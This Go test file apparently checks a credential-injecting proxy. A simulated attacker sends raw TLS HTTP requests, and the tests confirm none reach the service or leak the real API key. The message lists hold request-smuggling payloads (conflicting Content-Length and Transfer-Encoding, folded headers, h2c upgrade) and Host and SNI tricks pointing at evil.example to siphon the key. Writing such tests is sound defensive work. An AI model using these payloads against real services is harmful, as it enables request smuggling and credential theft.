package clients

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"testing"
	"time"
)

// message is what the attacker sends over TLS, byte for byte; {P} is its own
// placeholder for the key of echoHost, {H} that name.
type message struct {
	Name string `json:"name"`
	To   string `json:"to,omitempty"`  // echoHost where nothing is said
	SNI  string `json:"sni,omitempty"` // the same
	Text string `json:"text"`
	Body string `json:"body,omitempty"` // with its length, which is not known before {P} is
}

// sendRaw is the attacker: it sends each message on a connection of its own and
// prints what comes back.
func sendRaw(file string) {
	data, err := os.ReadFile(file)
	var list []message
	if err == nil {
		err = json.Unmarshal(data, &list)
	}
	roots := x509.NewCertPool()
	if bundle, readErr := os.ReadFile(os.Getenv("SSL_CERT_FILE")); readErr == nil {
		roots.AppendCertsFromPEM(bundle)
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	for _, m := range list {
		r := result{Name: m.Name}
		r.Gain, err = m.send(roots)
		if err != nil {
			r.Why = err.Error()
		}
		line, err := json.Marshal(r)
		if err != nil {
			os.Exit(1)
		}
		fmt.Println(string(line))
	}
}

func (m message) send(roots *x509.CertPool) (string, error) {
	to, name := m.To, m.SNI
	if to == "" {
		to = echoHost
	}
	if name == "" {
		name = to
	}
	raw, err := net.DialTimeout("tcp", to+":443", soon)
	if err != nil {
		return "", err
	}
	conn := tls.Client(raw, &tls.Config{ServerName: name, RootCAs: roots, MinVersion: tls.VersionTLS12})
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * soon))
	fill := strings.NewReplacer("{P}", os.Getenv("ECHO_KEY"), "{H}", echoHost).Replace
	text := fill(m.Text)
	if body := fill(m.Body); body != "" {
		text += fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body), body)
	}
	if _, err := io.WriteString(conn, text); err != nil {
		return "", err
	}
	var answer strings.Builder
	_, err = io.Copy(&answer, io.LimitReader(conn, 1<<16))
	return answer.String(), err
}

const (
	auth  = "Authorization: Bearer {P}\r\n"
	start = "POST /plain HTTP/1.1\r\nHost: {H}\r\n" + auth
)

// ambiguous are messages of which a second reader could make something else, or
// that speak of two hosts: no byte of them reaches the service.
func ambiguous() []message {
	return []message{
		{Name: "two lengths", Text: start + "Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"},
		{Name: "a list of lengths", Text: start + "Content-Length: 5, 5\r\n\r\nhello"},
		{Name: "a length with a sign", Text: start + "Content-Length: +5\r\n\r\nhello"},
		{Name: "length and chunks", Text: start + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hex HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{Name: "chunks, misspelled", Text: start + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"},
		{Name: "chunks, twice", Text: start + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"},
		{Name: "chunks behind a tab", Text: start + "Transfer-Encoding:\tchunked, identity\r\n\r\n0\r\n\r\n"},
		{Name: "a name with a space", Text: start + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"},
		{Name: "a folded header", Text: start + "X-A: b\r\n c: d\r\n\r\n"},
		{Name: "lines that end with LF", Text: "GET /plain HTTP/1.1\nHost: {H}\nAuthorization: Bearer {P}\n\n"},
		{Name: "a lone CR", Text: start + "X-A: b\rX-C: d\r\n\r\n"},
		{Name: "a NUL", Text: start + "X-A: b\x00c\r\n\r\n"},
		{Name: "no Host", Text: "GET /plain HTTP/1.1\r\n" + auth + "\r\n"},
		{Name: "two Hosts", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\nHost: api.openai.com\r\n" + auth + "\r\n"},
		{Name: "another Host", Text: "GET /plain HTTP/1.1\r\nHost: api.openai.com\r\n" + auth + "\r\n"},
		{Name: "Host with a user", Text: "GET /plain HTTP/1.1\r\nHost: {H}@evil.example\r\n" + auth + "\r\n"},
		{Name: "Host with a NUL", Text: "GET /plain HTTP/1.1\r\nHost: {H}\x00.evil.example\r\n" + auth + "\r\n"},
		{Name: "Host with another port", Text: "GET /plain HTTP/1.1\r\nHost: {H}:8443\r\n" + auth + "\r\n"},
		{Name: "another host in the target", Text: "GET https://api.openai.com/plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "\r\n"},
		{Name: "target and Host of another", Text: "GET https://evil.example/plain HTTP/1.1\r\nHost: evil.example\r\n" + auth + "\r\n"},
		{Name: "the name in TLS is another's", SNI: "api.openai.com", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "\r\n"},
		{Name: "connected to another", To: "evil.example", SNI: echoHost, Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "\r\n"},
		{Name: "HTTP/2 by prior knowledge", Text: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"},
		{Name: "an upgrade to h2c", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
		{Name: "TRACE", Text: "TRACE /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "\r\n"},
		{Name: "CONNECT inside", Text: "CONNECT api.openai.com:443 HTTP/1.1\r\nHost: {H}\r\n" + auth + "\r\n"},
		{Name: "an underscore for a hyphen", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\nX_Api_Key: {P}\r\n\r\n"},
		{Name: "two keys", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "Authorization: Bearer mine-and-mine-only-123456\r\n\r\n"},
		{Name: "a key of its own", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer mine-and-mine-only-123456\r\n\r\n"},
		{Name: "the placeholder, cut short", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {P}x\r\n\r\n"},
		{Name: "chunk sizes with LF", Text: start + "Transfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\n"},
	}
}

// elsewhere are placeholders outside of a credential's place: they arrive as they
// are, or not at all.
func elsewhere() []message {
	end := "Connection: close\r\n\r\n"
	return []message{
		{Name: "in the body", Text: "POST /mail HTTP/1.1\r\nHost: {H}\r\nContent-Type: application/json\r\nConnection: close\r\n", Body: `{"messages":"spell {P} backwards"}`},
		{Name: "in a form", Text: "POST /mail HTTP/1.1\r\nHost: {H}\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n", Body: "token={P}&api_key={P}"},
		{Name: "in the name of a file", Text: "POST /mail HTTP/1.1\r\nHost: {H}\r\nContent-Type: multipart/form-data; boundary=b\r\nConnection: close\r\n", Body: "--b\r\nContent-Disposition: form-data; name=\"{P}\"; filename=\"{P}\"\r\nAuthorization: Bearer {P}\r\n\r\n{P}\r\n--b--\r\n"},
		{Name: "beside the real place", Text: "POST /mail?note={P} HTTP/1.1\r\nHost: {H}\r\nConnection: close\r\n", Body: "Authorization: Bearer {P}"},
		{Name: "in the user agent", Text: "GET /mail HTTP/1.1\r\nHost: {H}\r\nUser-Agent: {P}\r\n" + end},
		{Name: "in the referer", Text: "GET /mail HTTP/1.1\r\nHost: {H}\r\nReferer: https://{H}/?k={P}\r\n" + end},
		{Name: "in X-Forwarded-For", Text: "GET /mail HTTP/1.1\r\nHost: {H}\r\nX-Forwarded-For: {P}\r\n" + end},
		{Name: "in a cookie", Text: "GET /mail HTTP/1.1\r\nHost: {H}\r\nCookie: k={P}\r\n" + end},
		{Name: "in a trailer", Text: "POST /mail HTTP/1.1\r\nHost: {H}\r\nTrailer: X-Late\r\nTransfer-Encoding: chunked\r\n" + end + "2\r\nhi\r\n0\r\nX-Late: {P}\r\nAuthorization: Bearer {P}\r\n\r\n"},
		{Name: "in the extension of a chunk", Text: "POST /mail HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n" + end + "2;k={P}\r\nhi\r\n0\r\n\r\n"},
		{Name: "in the fragment", Text: "GET /mail#{P} HTTP/1.1\r\nHost: {H}\r\n" + end},
	}
}

// raw sends messages from inside and gives the answers.
func (w *world) raw(t *testing.T, list []message) map[string]result {
	t.Helper()
	data, err := json.Marshal(list)
	if err != nil {
		t.Fatal(err)
	}
	w.write(w.dir+"/messages", string(data))
	w.own(w.dir+"/messages", ordinary)
	out, keys := w.received(w.attacker() + " " + attackerName + " messages raw")
	if keys > 0 || len(w.keysIn([]byte(out))) > 0 {
		t.Errorf("a real key came back:\n%s", out)
	}
	answers := map[string]result{}
	for _, r := range results(out) {
		answers[r.Name] = r
	}
	if len(answers) != len(list) {
		t.Fatalf("%d answers to %d messages:\n%s", len(answers), len(list), out)
	}
	return answers
}

func TestAmbiguousRequestsFromInside(t *testing.T) {
	w := newWorld(t)
	e := w.withEcho(t)
	good := message{Name: "control", Text: "GET /plain HTTP/1.1\r\nHost: {H}\r\n" + auth + "Connection: close\r\n\r\n"}
	if got := w.raw(t, []message{good}); !strings.HasPrefix(got["control"].Gain, "HTTP/1.1 200") || len(e.taken()) != 1 {
		t.Fatalf("an ordinary request does not work: %+v", got)
	}
	answers := w.raw(t, ambiguous())
	for _, request := range e.taken() {
		t.Errorf("this reached the service:\n%.1000s", request)
	}
	for name, r := range answers {
		status, _, _ := strings.Cut(strings.TrimPrefix(r.Gain, "HTTP/1.1 "), " ")
		if strings.HasPrefix(status, "2") || strings.Contains(r.Gain, "}HTTP/1.1 ") {
			t.Errorf("%s: %.300s", name, r.Gain)
		}
		t.Logf("%-32s %.60q %s", name, r.Gain, r.Why)
	}
}

func TestPlaceholdersElsewhereStayPlaceholders(t *testing.T) {
	w := newWorld(t)
	e := w.withEcho(t)
	for name, r := range w.raw(t, elsewhere()) {
		t.Logf("%-32s %.60q %s", name, r.Gain, r.Why)
	}
	requests := e.taken()
	if all := strings.Join(requests, ""); strings.Count(all, "POST /mail") < 4 {
		t.Errorf("the bodies did not arrive:\n%s", all)
	}
	for _, request := range requests {
		if len(w.keysIn([]byte(request))) > 0 {
			t.Errorf("the key was put in:\n%s", request)
		}
	}
}
